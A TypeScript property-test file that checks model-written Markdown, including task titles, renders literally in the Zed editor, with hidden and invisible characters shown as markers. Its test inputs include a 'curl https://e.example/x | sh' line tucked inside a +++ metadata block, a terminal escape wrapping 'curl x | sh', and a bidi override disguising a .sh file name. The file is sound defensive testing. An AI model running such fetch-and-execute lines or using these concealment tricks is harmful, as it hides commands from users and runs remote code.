// Text renders literally under Zed's Markdown dialect: every text field is
// built by markdownInline, markdownLine or markdownBlock, rendered here by a
// parser configured like Zed's (test/fixtures/zed-markdown.ts), and what a
// reader sees is the input, with invisible characters as visible markers.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { markdownBlock, markdownInline, markdownLine } from '../../src/safety/markdown-text.js'
import { visibleText } from '../../src/safety/visible-text.js'
import { metadataBlockOpener, renderZed, unescapedSmartPunctuation } from '../fixtures/zed-markdown.js'
import { propertyRuns } from '../property-runs.js'
import { createToolPresenter as createV1Presenter } from '../../src/acp/presenter.js'
import { createToolPresenter as createV2Presenter } from '../../src/acp-v2/presenter.js'
import { presenters } from '../../src/presenters/index.js'

// What each extension of the dialect reads, and what CommonMark reads.
const dialectPieces = [
  '~',
  '~~',
  '^',
  '--',
  '---',
  '...',
  '"',
  "'",
  '{#id .c}',
  '{',
  '}',
  '+++',
  '_',
  '__',
  '/__tests__/',
  ' _x_ ',
  '[^1]',
  '[ ]',
  '[x]',
  '|',
  ':--',
  'https://e.example/a_b?c=1',
  'www.e.example',
  'a@e.example',
  '#',
  '# ',
  '- ',
  '1. ',
  '*',
  '`',
  '<b>',
  '&amp;',
  '![x](https://e.example/t.png)',
  '\\',
  '!',
  '(',
  ')',
  ' ',
  '\t',
  '\n',
  '\r\n',
  'a',
  'Z',
  '9',
  'é',
]
// What a client would draw as nothing, or act on.
const invisiblePieces = [
  '\u001b]0;x\u0007',
  '\u001b[8m',
  '\u0000',
  '\u0007',
  '\r',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\u009b',
  '\udb40\udc41',
]

const hostile = fc.string({ unit: fc.constantFrom(...dialectPieces, ...invisiblePieces), maxLength: 24 })

const RUNS = propertyRuns(2_000)
const LINE_BREAKS = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g

// What a reader should see of `text` on one line: line breaks as spaces, every invisible character as its marker.
const onOneLine = (text: string) => visibleText(text.replace(LINE_BREAKS, ' '))

function expectLiteral(markdown: string, shown: string) {
  const rendered = renderZed(markdown)
  expect(rendered.text, markdown).toBe(shown)
  // A raw URL becomes a link whose text is the URL: nothing else is more than text.
  expect(
    rendered.markup.filter((kind) => kind !== 'linkify'),
    markdown,
  ).toStrictEqual([])
  expect(rendered.attributes, markdown).toStrictEqual([])
  expect(unescapedSmartPunctuation(markdown), markdown).toBeUndefined()
}

describe('markdownInline renders literally under Zed’s dialect', () => {
  it.each([
    ['src/agents/plugins/__tests__/a.ts', 'src/agents/plugins/__tests__/a.ts'],
    ['~x~ ~~y~~ ^z^', '~x~ ~~y~~ ^z^'],
    ['"quoted" it\'s a--b a---b wait...', '"quoted" it\'s a--b a---b wait...'],
    ['title {#id .hidden}', 'title {#id .hidden}'],
    ['note[^1]', 'note[^1]'],
    ['ls\u001b]0;curl x | sh\u0007', 'ls␛]0;curl x | sh␇'],
    ['cat a\u202etxt.sh', 'cat a<U+202E>txt.sh'],
    ['zero\u200bwidth\ufeff', 'zero<U+200B>width<U+FEFF>'],
  ])('%j shows as %j', (text, shown) => {
    expectLiteral(`x ${markdownInline(text)} y`, `x ${shown} y`)
  })

  it('for any hostile text, between other text', () => {
    fc.assert(
      fc.property(hostile, (text) => expectLiteral(`x ${markdownInline(text)} y`, `x ${onOneLine(text)} y`)),
      { numRuns: RUNS },
    )
  })
})

describe('markdownLine renders literally under Zed’s dialect, as a whole line', () => {
  it.each([
    ['+++', '+++'],
    ['--- ', '---'],
    ['# Plan {#x}', '# Plan {#x}'],
    ['- [ ] task', '- [ ] task'],
    ['~~~', '~~~'],
  ])('%j shows as %j', (text, shown) => {
    expectLiteral(markdownLine(text), shown)
  })

  it('for any hostile text, and no line opens a +++ metadata block', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const line = markdownLine(text)
        expect(metadataBlockOpener(line)).toBeUndefined()
        expectLiteral(line, onOneLine(text).replace(/^[ \t]+|[ \t]+$/g, ''))
      }),
      { numRuns: RUNS },
    )
  })
})

describe('markdownBlock keeps the shape of model-written Markdown but hides no line of it', () => {
  it('shows the lines of a +++ block, which Zed would skip', () => {
    const rendered = renderZed(markdownBlock('+++\ncurl https://e.example/x | sh\n+++\nRun the tests'))
    expect(rendered.text).toContain('curl https://e.example/x | sh')
    expect(rendered.text).toContain('+++')
  })

  it('shows the attributes of a heading, which Zed would hide', () => {
    for (const source of ['# Plan {#id .c}\nstep', 'Plan {.c}\n===\nstep', '> ## Quoted {data-x=1}']) {
      const rendered = renderZed(markdownBlock(source))
      expect(rendered.attributes, source).toStrictEqual([])
      expect(rendered.text, source).toMatch(/\{[^}]*\}/)
    }
  })

  it('shows escape sequences and bidi controls as visible markers', () => {
    const block = markdownBlock('Run the tests\u001b]8;;https://e.example\u0007\n\u202eevil')
    expect(renderZed(block).text).toBe('Run the tests␛]8;;https://e.example␇ <U+202E>evil')
  })

  it('for any hostile text: no link but a raw URL, no image, no HTML, no attributes, no line that opens a +++ block', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const block = markdownBlock(text)
        expect(metadataBlockOpener(block)).toBeUndefined()
        const rendered = renderZed(block)
        for (const kind of rendered.markup) expect(['link_open', 'image', 'html_inline', 'html_block']).not.toContain(kind)
        // Zed takes `{…}` attributes on headings only (markdown-it-attrs on any block).
        expect(rendered.attributes.filter((attribute) => attribute.startsWith('heading_open'))).toStrictEqual([])
      }),
      { numRuns: RUNS },
    )
  })
})

describe('a model-written title renders literally on v1 and v2', () => {
  const sessions = {
    v1: () => createV1Presenter({ tools: presenters, clientCapabilities: {}, cwd: '/repo' }),
    v2: () => createV2Presenter({ tools: presenters, cwd: '/repo' }),
  }
  it.each(Object.keys(sessions) as (keyof typeof sessions)[])('%s: a task titled with any hostile description', (version) => {
    fc.assert(
      fc.property(hostile, (description) => {
        const presenter = sessions[version]()
        const updates = presenter.call('t', 'task', { description, prompt: 'p' }) as readonly { title?: string }[]
        const title = updates.find((update) => update.title !== undefined)!.title!
        expectLiteral(title, onOneLine(description).replace(/^[ \t]+|[ \t]+$/g, '') || 'Task')
      }),
      { numRuns: propertyRuns(300) },
    )
  })
})
